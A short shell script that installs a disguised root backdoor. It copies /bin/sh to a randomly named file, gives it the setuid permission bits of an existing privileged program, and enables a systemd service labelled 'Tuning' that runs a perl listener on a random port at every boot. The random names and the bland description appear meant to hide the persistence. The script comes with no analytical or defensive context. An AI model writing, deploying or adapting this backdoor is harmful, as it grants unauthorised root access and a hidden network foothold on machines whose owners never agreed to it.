#!/bin/sh
# Chooses everything at run time.
set -eu

chance() { od -An -N4 -tu4 /dev/urandom | tr -d ' '; }
name=tune-$(od -An -N4 -tx4 /dev/urandom | tr -d ' ')
port=$((20000 + $(chance) % 20000))

# A shell, with the mode of a program that may become root.
program=/usr/local/lib/tune/$name
cp /bin/sh "$program"
chmod --reference="$(find /usr/bin -perm -4000 | head -n 1)" "$program"

# A unit that opens the port at every boot.
cat >"/etc/systemd/system/$name.service" <<UNIT
[Unit]
Description=Tuning

[Service]
ExecStart=/usr/bin/perl /usr/local/lib/tune/answer.pl $port
ExecStartPost=/bin/sleep 5

[Install]
WantedBy=multi-user.target
UNIT
systemctl enable "$name"

mkdir -p /var/lib/tune
touch /var/lib/tune/ready
